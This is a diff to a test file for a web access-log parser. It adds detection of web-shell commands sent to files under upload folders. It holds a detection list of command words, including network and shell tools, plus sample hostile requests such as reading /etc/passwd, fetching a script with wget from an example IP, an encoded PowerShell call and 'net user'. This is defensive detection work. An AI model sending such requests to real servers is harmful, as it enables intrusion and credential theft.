@@ -7,6 +7,14 @@ import { detectFormat } from './formats.js';
 import { parseFieldMapping, parseJsonLine } from './jsonl.js';
 import { parseW3cLine, w3c } from './w3c.js';
 
+/** The parameters and command words a web shell's user sends, as the parser's plain definition. */
+const COMMAND_KEYS = ['cmd', 'c', 'x', 'exec', 'execute', 'command', 'shell', 'system', 'run'];
+const COMMAND_WORDS = (
+  'id whoami uname hostname pwd ls dir cat type echo ps tasklist systeminfo ipconfig ifconfig netstat wget curl ' +
+  'nc ncat bash sh python python2 python3 perl php ruby powershell pwsh cmd cmd.exe certutil bitsadmin chmod find ' +
+  'cd rm mkdir touch base64'
+).split(' ');
+
 describe('JSON Lines records', () => {
   it.each([
     [
@@ -193,6 +201,27 @@ describe('combined access logs', () => {
     });
   });
 
+  it.each([
+    ['GET /uploads/2024/avatar.jpg?cmd=id', 'cmd=id'],
+    ['GET /uploads/shell.gif?c=cat+/etc/passwd', 'c=cat /etc/passwd'],
+    ['POST /media/x.png?exec=wget%20http://203.0.113.9/a.sh', 'exec=wget http://203.0.113.9/a.sh'],
+    ['GET /files/a.txt?w=1&Command=powershell+-enc+SQBFAFgA', 'Command=powershell -enc SQBFAFgA'],
+    ['GET /uploads/a.jpg?x=net%20user', 'x=net user'],
+  ])('%s: a file below an upload folder handed a shell command ran it', (request, command) => {
+    expect(parseCombinedLine(line(request, 200), uploads)).toMatchObject({ executed: { command } });
+  });
+
+  it.each([
+    'GET /uploads/a.jpg?w=200&c=blue',
+    'GET /uploads/a.jpg?x=identity',
+    'GET /uploads/a.jpg?cmd=identify',
+    'GET /search?cmd=id',
+    'GET /uploads/a.jpg?q=cat+pictures',
+  ])('%s: no shell command handed to an upload', (request) => {
+    const record = parseCombinedLine(line(request, 200), uploads);
+    expect(typeof record === 'object' ? record.executed : record).toBeUndefined();
+  });
+
   it('parses like the plain definition (split, decode every key), on lines built to hit each branch', () => {
     /** The first definition, written for clarity: the fast one must agree with it everywhere. */
     const COMBINED = /^(?:[^\s:]+:\d+ )?(\S+) \S+ (\S+) \[([^\]]+)\] "((?:[^"\\]|\\.)*)" (\d{3}) (?:\d+|-)/;
@@ -219,13 +248,27 @@ describe('combined access logs', () => {
       const hidden = script === undefined ? undefined : analyzeName(script).effectiveExtension;
       const isScript =
         SERVER_SCRIPT_EXTENSIONS.has(ext) || (hidden !== undefined && SERVER_SCRIPT_EXTENSIONS.has(hidden));
-      if (below && isScript && !/^(PUT|PATCH)$/i.test(method!)) {
-        const run: Record<string, unknown> = {
-          client,
-          timestamp,
-          requestPath: path,
-          executed: { method: method!.toUpperCase(), status: Number(status), script: below },
+      // A shell command handed to a file below the upload folder: a known command word first.
+      const commandPair = query.split('&').find((pair) => {
+        const eq = pair.indexOf('=');
+        if (eq < 0 || !COMMAND_KEYS.includes(pair.slice(0, eq).toLowerCase())) return false;
+        const value = decodeRepeatedly(pair.slice(eq + 1), { plusAsSpace: true }).decoded.trimStart();
+        const word = value.split(/[\s;|&`<>]/)[0]!.toLowerCase();
+        return word === 'net'
+          ? /^net\s+(?:user|localgroup|view)(?:$|[\s;|&`<>])/i.test(value)
+          : COMMAND_WORDS.includes(word);
+      });
+      if (below && (isScript ? !/^(PUT|PATCH)$/i.test(method!) : commandPair !== undefined)) {
+        const executed: Record<string, unknown> = {
+          method: method!.toUpperCase(),
+          status: Number(status),
+          script: below,
         };
+        if (commandPair !== undefined && !isScript) {
+          const eq = commandPair.indexOf('=');
+          executed.command = `${commandPair.slice(0, eq)}=${decodeRepeatedly(commandPair.slice(eq + 1), { plusAsSpace: true }).decoded}`;
+        }
+        const run: Record<string, unknown> = { client, timestamp, requestPath: path, executed };
         if (user !== '-') run.user = user;
         return run;
       }
@@ -295,6 +338,11 @@ describe('combined access logs', () => {
         'PATH',
         'x.php',
         'a.jpg',
+        'cmd=',
+        'C=',
+        'id',
+        'ls+-la',
+        'net%20user',
       ),
       fc.string({ maxLength: 6 }),
     );
